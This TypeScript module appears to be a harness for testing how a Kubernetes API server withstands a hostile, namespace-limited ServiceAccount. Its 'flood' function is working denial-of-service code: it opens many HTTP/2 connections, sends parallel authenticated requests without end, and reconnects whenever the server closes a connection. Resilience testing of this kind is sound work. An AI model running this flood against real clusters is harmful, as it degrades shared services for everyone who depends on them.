import { type ClientHttp2Session, type ClientHttp2Stream, connect, type OutgoingHttpHeaders } from 'node:http2';

/** The server under attack, and the credentials of a ServiceAccount that may do nothing outside of its own namespace. */
export interface Target {
  readonly endpoint: string;
  /** The CA of the server, in PEM. */
  readonly ca: string;
  readonly token: string;
  /** The namespace in which the ServiceAccount may write ConfigMaps and Stacks, a custom resource. */
  readonly namespace: string;
}

export const reviews = '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews';

export function stacks({ namespace }: Target): string {
  return `/apis/hostile.example.com/v1/namespaces/${namespace}/stacks`;
}

/** Opens an HTTP/2 connection. Errors are ignored: the server may close the connection of a hostile client at any time. */
export function open({ endpoint, ca }: Target): ClientHttp2Session {
  const session = connect(endpoint, { ca });
  session.on('error', () => undefined);
  return session;
}

export interface Sent {
  readonly method?: string;
  readonly path: string;
  readonly headers?: OutgoingHttpHeaders;
  readonly body?: Buffer | string;
}

/** Starts a request with the token of the ServiceAccount. Without a body, the stream stays open for writing. */
export function start(session: ClientHttp2Session, target: Target, sent: Sent): ClientHttp2Stream | undefined {
  if (session.destroyed || session.closed) return undefined;
  const stream = session.request({
    ':method': sent.method ?? 'GET',
    ':path': sent.path,
    authorization: `Bearer ${target.token}`,
    ...sent.headers,
  });
  stream.on('error', () => undefined);
  return stream;
}

/** Sends a request and resolves to its status code, or to 0 if the connection failed. */
export function send(session: ClientHttp2Session, target: Target, sent: Sent): Promise<number> {
  return new Promise((resolve) => {
    const stream = start(session, target, sent);
    if (stream === undefined) {
      setTimeout(resolve, 50, 0);
      return;
    }
    let status = 0;
    stream.on('response', (headers) => (status = Number(headers[':status'])));
    stream.on('close', () => resolve(status));
    stream.resume();
    stream.end(sent.body);
  });
}

/** Repeats a request from `clients` connections with `parallel` requests each, until the process is killed. */
export async function flood(
  target: Target,
  { clients, parallel }: { readonly clients: number; readonly parallel: number },
  next: (index: number) => Sent,
): Promise<void> {
  let index = 0;
  const repeat = async (connection: { session: ClientHttp2Session }): Promise<never> => {
    for (;;) {
      if (connection.session.destroyed || connection.session.closed) connection.session = open(target);
      await send(connection.session, target, next((index += 1)));
    }
  };
  const connections = Array.from({ length: clients }, () => ({ session: open(target) }));
  await Promise.all(connections.flatMap((one) => Array.from({ length: parallel }, () => repeat(one))));
}
